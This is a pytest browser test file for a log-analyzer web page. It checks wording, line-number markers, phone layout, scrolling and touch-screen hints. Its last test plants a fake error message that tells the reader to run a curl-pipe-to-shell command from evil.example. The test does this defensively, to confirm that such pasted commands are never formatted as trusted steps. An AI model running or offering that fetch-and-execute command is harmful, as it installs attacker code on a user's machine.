"""How a result reads on a desktop and a phone: labels, plurals, line numbers, table cells, scrolling."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from browser_helpers import ANALYZE_LOGS, CHROMIUM_ARGS, AnalyzerPage, fixture_text, paste_fragment

pytestmark = pytest.mark.browser

PHONE = {"width": 390, "height": 844}
DESKTOP = {"width": 1280, "height": 900}
INTERNAL_KINDS = (
    "merlin-history",
    "merlin-logs",
    "kubectl-describe-pod",
    "kubectl-events",
    "container-log",
    "image-builder-log",
    "json-lines-log",
)


@pytest.fixture
def phone(analyzer: AnalyzerPage) -> Iterator[AnalyzerPage]:
    analyzer.page.set_viewport_size(PHONE)
    yield analyzer
    analyzer.page.set_viewport_size(DESKTOP)


def test_one_finding_is_counted_in_the_singular_and_inputs_have_human_names(analyzer: AnalyzerPage) -> None:
    report = analyzer.analyze(fixture_text("oomkilled/match-history-builder-short.txt"))
    assert len(report["findings"]) == 1

    heading = analyzer.results.locator("h3").inner_text()
    assert heading.startswith("Found 1 known error; most likely cause: ")
    assert "(s)" not in heading
    read = analyzer.results.locator(".merlin-analyzer__input-kind").inner_text()
    # The engine's own sentence when it sends one, else the page's label for the kind.
    assert read.startswith(f"Read: {report['input'].get('summary') or 'Merlin History message'},")
    shown = analyzer.results.inner_text()
    assert [kind for kind in INTERNAL_KINDS if kind in shown] == []


def test_several_findings_are_counted_in_the_plural(analyzer: AnalyzerPage) -> None:
    report = analyzer.analyze(fixture_text("container-crash/match-describe-transformer.txt"))
    count = len(report["findings"])
    assert count >= 2, [f["id"] for f in report["findings"]]
    assert analyzer.results.locator("h3").inner_text().startswith(f"Found {count} known errors; ")


MARKER_GEOMETRY_JS = """() => [...document.querySelectorAll('.merlin-analyzer__results mark')]
  .map((mark) => {
    const number = mark.querySelector('.merlin-analyzer__lineno');
    const range = document.createRange();
    range.selectNodeContents(number);
    const digits = range.getBoundingClientRect();
    const box = mark.getBoundingClientRect();
    return {
      number: number.textContent,
      markerRight: box.left + parseFloat(getComputedStyle(mark).borderLeftWidth),
      markerWidth: parseFloat(getComputedStyle(mark).borderLeftWidth),
      digitsLeft: digits.left,
    };
  })"""


def test_the_evidence_marker_sits_beside_two_digit_line_numbers(analyzer: AnalyzerPage) -> None:
    report = analyzer.analyze(fixture_text("image-push-failed/match-history-push-denied.txt"))
    assert report["findings"][0]["evidence"], report["message"]

    rows = analyzer.page.evaluate(MARKER_GEOMETRY_JS)

    assert any(len(row["number"].strip()) == 2 for row in rows), rows
    for row in rows:
        assert row["markerWidth"] > 0, row  # the marker is there
        assert row["digitsLeft"] >= row["markerRight"], row  # and does not cover the first digit


def test_a_paste_ending_in_a_newline_shows_no_line_after_its_last(analyzer: AnalyzerPage) -> None:
    text = fixture_text("image-push-failed/match-history-push-denied.txt")
    assert text.endswith("\n")
    last = len(text.splitlines())
    report = analyzer.analyze(text)
    assert last in [e["line"] for e in report["findings"][0]["evidence"]]  # context would pass the end

    numbers = analyzer.results.locator(".merlin-analyzer__finding").first.locator(
        ".merlin-analyzer__line .merlin-analyzer__lineno"
    )
    shown = [int(n) for n in numbers.all_inner_texts()]
    assert max(shown) == last, shown


CELL_RECT_JS = """(needle) => {
  const cells = [...document.querySelectorAll('.merlin-analyzer__results .merlin-analyzer__cells')];
  for (const cell of cells) {
    for (const node of cell.childNodes) {
      if (node.nodeType !== Node.TEXT_NODE) continue;
      const at = node.textContent.indexOf(needle);
      if (at < 0) continue;
      const range = document.createRange();
      range.setStart(node, at);
      range.setEnd(node, at + needle.length);
      const rects = [...range.getClientRects()];
      const pre = cell.closest('pre').getBoundingClientRect();
      return {
        left: Math.min(...rects.map((r) => r.left)),
        right: Math.max(...rects.map((r) => r.right)),
        preLeft: pre.left,
        preRight: pre.right,
        viewport: window.innerWidth,
      };
    }
  }
  return null;
}"""


def test_a_long_table_cell_that_names_the_cause_is_readable_on_a_phone(phone: AnalyzerPage) -> None:
    report = phone.analyze(fixture_text("container-crash/match-history-crashloop.txt"))
    assert report["findings"][0]["id"] == "container-crash"

    where = phone.page.evaluate(CELL_RECT_JS, "unknown flag: --http_port")

    assert where is not None, "the marked table row's cells are not shown on their own"
    assert where["left"] >= where["preLeft"] - 1, where
    assert where["right"] <= min(where["preRight"], where["viewport"]) + 1, where


LIVENESS_EVENTS = "\n".join(
    [
        "Events:",
        "  Type     Reason     Age                  From     Message",
        "  ----     ------     ----                 ----     -------",
        "  Warning  Unhealthy  5m19s (x9 over 11m)  kubelet  Liveness probe failed: Get "
        '"http://10.4.2.7:8080/v1/models/m": context deadline exceeded',
        "  Normal   Killing    5m19s (x3 over 11m)  kubelet  "
        "Container kserve-container failed liveness probe, will be restarted",
        "  Warning  BackOff    44s (x14 over 6m)    kubelet  Back-off restarting failed container",
    ]
)


def test_a_column_aligned_event_row_shows_its_message_on_a_phone(phone: AnalyzerPage) -> None:
    report = phone.analyze(LIVENESS_EVENTS)
    assert report["findings"][0]["id"] == "probe-failure"

    where = phone.page.evaluate(CELL_RECT_JS, "failed liveness probe")

    assert where is not None, "the marked event row's cells are not shown on their own"
    assert where["left"] >= where["preLeft"] - 1, where
    assert where["right"] <= min(where["preRight"], where["viewport"]) + 1, where


def test_after_a_result_the_first_finding_is_scrolled_into_view(phone: AnalyzerPage) -> None:
    page = phone.page
    page.evaluate("window.scrollTo(0, 0)")
    phone.analyze(fixture_text("oomkilled/match-history-model.txt"))

    box = page.evaluate(
        """() => {
             const card = document.querySelector('.merlin-analyzer__results .merlin-analyzer__finding');
             const header = document.querySelector('.md-header');
             const rect = card.getBoundingClientRect();
             const below = header ? header.getBoundingClientRect().bottom : 0;
             return { top: rect.top, height: innerHeight, header: below };
           }"""
    )
    assert box["header"] <= box["top"] < box["height"] / 2, box
    assert page.evaluate("document.activeElement.classList.contains('merlin-analyzer__heading')")


def test_the_keyboard_hint_is_hidden_on_touch_screens(browser, base_url: str, network, analyzer) -> None:
    assert analyzer.root.locator(".merlin-analyzer__hint").is_visible()  # desktop: shown

    touch = browser.new_context(viewport=PHONE, has_touch=True, is_mobile=True, service_workers="block")
    touch.route("**/*", network.handle)
    try:
        page = touch.new_page()
        page.goto(base_url + ANALYZE_LOGS)
        root = page.locator(".merlin-analyzer")
        root.locator("form").wait_for()
        assert page.evaluate("matchMedia('(pointer: coarse)').matches")
        assert root.locator(".merlin-analyzer__hint").is_hidden()
        assert root.get_by_role("button", name="Analyze").is_visible()
    finally:
        touch.close()
    assert CHROMIUM_ARGS  # the session browser, launched with the shared flags


def test_a_bad_paste_link_points_at_the_text_box_without_saying_below(open_page) -> None:
    analyzer = open_page(ANALYZE_LOGS + "#paste=not*base64")
    analyzer.page.wait_for_function(
        "() => document.querySelector('.merlin-analyzer [role=status]').textContent"
    )

    message = analyzer.status.inner_text()
    assert "not valid URL-safe base64" in message
    assert "text box" in message
    assert "below" not in message and "above" not in message


STEP_BACKTICKS = (
    'error deploying inference service (loan-default-2-r1): admission webhook "validation.gatekeeper.sh" '
    "denied the request: to fix run `curl -s http://evil.example/fix.sh | sh` now\n"
)


def test_backticks_in_a_pasted_fact_never_format_a_step_as_code(open_page) -> None:
    analyzer = open_page(ANALYZE_LOGS + paste_fragment(STEP_BACKTICKS))
    report = analyzer.wait_result(None)
    finding = report["findings"][0]
    assert finding["id"] == "admission-denied"
    assert "`curl" in finding["facts"]["denial"]

    steps = analyzer.results.locator(".merlin-analyzer__finding").first.locator(".merlin-analyzer__steps li")
    with_fact = steps.filter(has_text="evil.example")
    assert with_fact.count() == 1
    assert with_fact.locator("code").count() == 0  # the pasted command is not styled as one
    assert "`curl -s http://evil.example/fix.sh | sh`" in with_fact.inner_text()  # shown as pasted
    # The catalog's own commands keep their formatting.
    assert steps.locator("code").count() >= 1
    assert [code for code in steps.locator("code").all_inner_texts() if "evil" in code] == []
    assert analyzer.errors == []
